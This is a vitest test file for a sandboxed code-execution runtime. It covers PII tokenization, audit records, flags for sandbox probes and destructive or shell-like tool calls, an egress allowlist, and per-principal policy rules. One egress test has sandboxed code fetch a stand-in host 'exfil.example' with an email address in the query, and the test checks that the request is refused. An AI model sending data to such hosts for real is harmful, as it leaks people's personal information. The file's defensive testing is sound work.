import { afterAll, describe, expect, it } from 'vitest';
import { createMemoryAuditSink, createPolicy, type PolicySettings } from '../audit/index.js';
import { Catalog } from '../catalog/index.js';
import { BUILTIN_DETECTORS, createPrivacy, createRedactor } from '../privacy/index.js';
import { createQuickJsEngine } from '../sandbox/index.js';
import { outcomeInvoker } from '../upstream/index.js';
import type { Egress } from './egress.js';
import { createEgress } from './egress.js';
import { executeProgram, type RuntimeOptions } from './execute.js';
import { fetchNamespace } from './namespaces/index.js';
import type { ExecuteContext } from './oversight.js';

const CONTACTS = [
  { name: 'Ada', email: 'ada@example.com', phone: '+44 20 7946 0958' },
  { name: 'Grace', email: 'grace@example.org', phone: '(555) 123-4567' },
];

const catalog = Catalog.fromSources([{
  server: 'crm',
  tools: [
    { name: 'list_contacts', description: 'Lists contacts', inputSchema: { type: 'object', properties: {} } },
    { name: 'send_email', description: 'Sends an email', inputSchema: { type: 'object', properties: { to: { type: 'string', format: 'email' }, body: { type: 'string' } }, required: ['to'] } },
    { name: 'delete_contact', description: 'Deletes', inputSchema: { type: 'object', properties: { email: { type: 'string' } } }, annotations: { destructiveHint: true } },
    { name: 'run_command', description: 'Runs a command', inputSchema: { type: 'object', properties: {} } },
  ],
}]);

const seen: Record<string, unknown>[] = [];
const invoker = outcomeInvoker({
  async callTool(_server, tool, args) {
    seen.push({ tool, ...args });
    if (tool === 'list_contacts') return { content: [{ type: 'text', text: JSON.stringify(CONTACTS) }] };
    if (tool === 'send_email' && args.to === 'nobody@example.net') return { isError: true, content: [{ type: 'text', text: 'no mailbox nobody@example.net' }] };
    return { content: [{ type: 'text', text: JSON.stringify({ done: tool }) }] };
  },
});

const engine = createQuickJsEngine({ poolSize: 1 });
afterAll(() => engine.close());
const limits = {
  cpuMs: 1_000, wallMs: 5_000, memoryBytes: 32 << 20, stackBytes: 256 << 10, maxLogBytes: 10_000, maxResultBytes: 100_000,
  maxToolCalls: 20, toolCallTimeoutMs: 1_000, maxConcurrentCalls: 4, maxToolResultBytes: 100_000,
};
const privacy = createPrivacy({ enabled: true, detectors: BUILTIN_DETECTORS, custom: [], servers: {}, maxEntries: 100 });
const policy = (over: Partial<PolicySettings> = {}) => createPolicy({ allow: [], deny: [], confirm: [], destructive: 'allow', ...over });

function setup(over: { policy?: ReturnType<typeof policy>; egress?: Egress } = {}) {
  const sink = createMemoryAuditSink();
  const options: RuntimeOptions = {
    engine, invoker, limits, maxTokens: 2_000,
    oversight: {
      audit: sink, redact: createRedactor({ detectors: privacy.detectors }), flagThresholds: { maxCalls: 5, maxDataBytes: 1 << 20 },
      ...(over.policy ? { policy: over.policy } : {}),
    },
    ...(over.egress ? { namespaces: [fetchNamespace(over.egress)] } : {}),
  };
  const pii = privacy.openSession()!;
  const context: ExecuteContext = { session: { id: 'sess-test', transport: 'stdio', client: { name: 'vitest', version: '1' } }, pii };
  const run = (code: string, extra: Partial<ExecuteContext> = {}) => executeProgram(code, catalog, options, undefined, { ...context, ...extra });
  return { sink, run };
}

describe('executeProgram with privacy', () => {
  it('tokenizes the value, logs and errors, and restores tokens in later tool arguments', async () => {
    const { run, sink } = setup();
    const first = await run('const cs = await crm.list_contacts({});\nconsole.log("first:", cs[0].email);\nreturn cs;');
    expect(first.text).toBe('console:\nfirst: [EMAIL_1]\n\nresult:\n[{"name":"Ada","email":"[EMAIL_1]","phone":"[PHONE_1]"},{"name":"Grace","email":"[EMAIL_2]","phone":"[PHONE_2]"}]');

    seen.length = 0;
    const second = await run('return await crm.send_email({ to: "[EMAIL_2]", body: "Call [PHONE_1] please" });');
    expect(second.ok).toBe(true);
    expect(seen).toEqual([{ tool: 'send_email', to: 'grace@example.org', body: 'Call +44 20 7946 0958 please' }]);

    const failed = await run('await crm.send_email({ to: "nobody@example.net" });');
    expect(failed.text).toContain('no mailbox [EMAIL_3]');
    expect(failed.text).not.toContain('nobody@');

    const [r1, r2, r3] = sink.records;
    expect(r1!.pii).toEqual({ tokenized: { EMAIL: 3, PHONE: 2 }, restored: 0 });
    expect(r2!.pii.restored).toBe(2);
    expect(r3!.code).toBe('await crm.send_email({ to: "[EMAIL]" });');
    expect(JSON.stringify(sink.records)).not.toMatch(/example\.(com|org|net)|7946|123-4567/);
  });
});

describe('executeProgram audit records', () => {
  it('records session, client, code hash, each call, tokens and limits', async () => {
    const { run, sink } = setup();
    await run('for (let i = 0; i < 2; i++) await crm.list_contacts({});\nreturn 1;');
    const record = sink.records[0]!;
    expect(record).toMatchObject({
      v: 1, session: { id: 'sess-test', transport: 'stdio', client: { name: 'vitest', version: '1' } }, ok: true, redacted: true,
      limitsHit: [], tokens: { in: expect.any(Number), out: 1 }, flags: [],
    });
    expect(record.codeSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(record.calls).toEqual([
      { server: 'crm', tool: 'list_contacts', ok: true, fate: 'ok', durationMs: expect.any(Number), argumentBytes: 2, resultBytes: expect.any(Number) },
      { server: 'crm', tool: 'list_contacts', ok: true, fate: 'ok', durationMs: expect.any(Number), argumentBytes: 2, resultBytes: expect.any(Number) },
    ]);
    expect(record.callCounts).toEqual({ ok: 2, error: 0, refused: 0, dropped: 0, cancelled: 0 });
    expect(record.operations).toEqual({ 'crm.list_contacts': 2 });
    const cpu = await run('for (;;) {}');
    expect(cpu.auditId).toBe(sink.records[1]!.id);
    expect(sink.records[1]).toMatchObject({ ok: false, errorCode: 'SANDBOX_CPU', limitsHit: ['SANDBOX_CPU'] });
  });

  it('records a syntax error too', async () => {
    const { run, sink } = setup();
    const result = await run('return (');
    expect(result.errorCode).toBe('SYNTAX_ERROR');
    expect(sink.records[0]).toMatchObject({ ok: false, errorCode: 'SYNTAX_ERROR', calls: [] });
  });
});

describe('executeProgram flags', () => {
  it('flags probes, destructive and shell-like calls, call volume; hands them on with the audit id', async () => {
    const { run } = setup();
    const sent: { kinds: string[]; auditId: string }[] = [];
    const result = await run(
      'const p = globalThis.process;\nfor (let i = 0; i < 3; i++) await crm.delete_contact({});\nawait crm.run_command({});\nawait crm.list_contacts({}); await crm.list_contacts({});\nreturn 1;',
      { onFlags: (flags, auditId) => sent.push({ kinds: flags.map((f) => f.kind), auditId }) },
    );
    expect(result.flags?.map((f) => `${f.kind}: ${f.message}`)).toEqual([
      'probe: program reaches process through the global object (line 1)',
      'probe: program references globalThis (line 1)',
      'destructive: called crm.delete_contact, annotated destructive',
      'shell: called crm.run_command, a shell/exec-like tool',
      'call-volume: 6 tool calls in one run (threshold 5)',
    ]);
    expect(sent).toEqual([{ kinds: ['probe', 'probe', 'destructive', 'shell', 'call-volume'], auditId: result.auditId }]);
  });
});

describe('executeProgram egress flag', () => {
  it('flags a fetch refused by the allowlist, in the result, the audit record and the notification', async () => {
    // Refused on the allowlist before any DNS lookup or connection, so no network is needed.
    const egress = createEgress({ allow: [{ origin: 'https://api.example.com' }], timeoutMs: 1_000, maxResponseBytes: 10_000, maxRedirects: 2 });
    const { run, sink } = setup({ egress });
    const sent: string[] = [];
    const result = await run(
      'try { await fetch("https://exfil.example/collect?d=ada@example.com"); } catch (e) { return e.code; }',
      { onFlags: (flags) => sent.push(...flags.map((f) => f.kind)) },
    );
    expect(result.text).toBe('EGRESS_DENIED');
    const flag = { kind: 'egress-blocked', message: 'a fetch was refused by the egress allowlist', call: 'fetch.request' };
    expect(result.flags).toEqual([flag]);
    expect(sent).toEqual(['egress-blocked']);
    const record = sink.records[0]!;
    expect(record.flags).toEqual([flag]);
    expect(record.calls).toEqual([expect.objectContaining({ ok: false, errorCode: 'EGRESS_DENIED' })]);
    expect(JSON.stringify(record.flags)).not.toContain('exfil');
  });

  it('does not flag a program with fetch that stays within the allowlist', async () => {
    const { run } = setup({ egress: createEgress({ allow: [], timeoutMs: 1_000, maxResponseBytes: 10_000, maxRedirects: 2 }) });
    const result = await run('return typeof fetch;');
    expect(result.text).toBe('function');
    expect(result.flags).toEqual([]);
  });
});

describe('executeProgram policy', () => {
  it('refuses a denied call with a ToolError naming the rule', async () => {
    const { run, sink } = setup({ policy: policy({ deny: ['crm.delete_*'] }) });
    seen.length = 0;
    const result = await run('try { await crm.delete_contact({ email: "x" }); } catch (e) { return [e.name, e.code, e.message]; }');
    expect(result.text).toBe('["ToolError","POLICY_DENIED","crm.delete_contact: denied by policy rule deny \\"crm.delete_*\\""]');
    expect(seen).toEqual([]);
    expect(sink.records[0]!.flags.map((f) => f.kind)).toEqual(['destructive', 'policy']);
    // Refusals are counted, never listed.
    expect(sink.records[0]!.calls).toEqual([]);
    expect(sink.records[0]).toMatchObject({ callCounts: { refused: 1 }, refused: { POLICY_DENIED: 1 } });
  });

  it("decides with the run's principal (ExecuteContext.session.principal): a principal rule denies one, another confirms", async () => {
    const byScope = policy({ principals: [{ match: { scope: 'team-a' }, deny: ['crm.send_*'] }, { match: { scope: 'team-b' }, confirm: ['crm.send_*'] }] });
    const { run, sink } = setup({ policy: byScope });
    const as = (subject: string, scope: string) => ({ id: `sess-${subject}`, transport: 'http', principal: { subject, scopes: [scope], source: 'oauth' as const, clientId: 'app' } });
    seen.length = 0;
    const program = 'try { return await crm.send_email({ to: "ada@example.com" }); } catch (e) { return e.message; }';
    const a = await run(program, { session: as('ann', 'team-a') });
    expect(a.text).toBe('crm.send_email: denied by policy rule deny "crm.send_*" (cemcp.policy.principals[0]: scope "team-a")');
    const asked: string[] = [];
    const b = await run(program, { session: as('bob', 'team-b'), confirm: async (request) => (asked.push(request.rule), true) });
    expect(b.ok).toBe(true);
    expect(asked).toEqual(['confirm "crm.send_*" (cemcp.policy.principals[1]: scope "team-b")']);
    // Without a principal (a local session) neither rule applies.
    expect((await run(program)).text).toBe('{"done":"send_email"}');
    expect(seen.map((c) => c.tool)).toEqual(['send_email', 'send_email']);
    // Each audit record names who ran it.
    expect(sink.records.map((r) => r.session.principal?.subject)).toEqual(['ann', 'bob', undefined]);
    expect(sink.records[0]!.session.principal).toEqual({ subject: 'ann', clientId: 'app', scopes: ['team-a'], source: 'oauth' });
  });

  it('asks to confirm destructive calls: once per tool per run; refuses when declined or when it cannot ask', async () => {
    const { run } = setup({ policy: policy({ destructive: 'confirm' }) });
    const asked: string[] = [];
    const yes = await run('await crm.delete_contact({}); await crm.delete_contact({}); return "deleted";', {
      confirm: async (request) => (asked.push(`${request.callName} ${request.rule}`), true),
    });
    expect(yes.text).toBe('deleted');
    expect(asked).toEqual(['crm.delete_contact destructive: "confirm"']);
    const no = await run('await crm.delete_contact({});', { confirm: async () => false });
    expect(no.text).toContain('POLICY_DENIED');
    expect(no.text).toContain('the user did not confirm this call (policy rule destructive: "confirm")');
    const cannot = await run('await crm.delete_contact({});');
    expect(cannot.text).toContain('this client cannot be asked (no elicitation support)');
  });

  it('withdraws a confirmation still open when the run ends, and drops the call', async () => {
    const { run, sink } = setup({ policy: policy({ destructive: 'confirm' }) });
    let asked: AbortSignal | undefined;
    seen.length = 0;
    const result = await run('crm.delete_contact({}); return "gone";', {
      confirm: (request) => {
        asked = request.signal;
        // The client withdraws the question when the run ends: the call was dropped, not declined.
        return new Promise<boolean>((resolve) => request.signal?.addEventListener('abort', () => resolve(false)));
      },
    });
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(result.flags?.map((f) => f.kind)).toEqual(['destructive']);
    expect(result.text).toBe('gone');
    expect(asked?.aborted).toBe(true);
    expect(seen).toEqual([]);
    expect(sink.records[0]!.callCounts).toMatchObject({ dropped: 1 });
  });
});
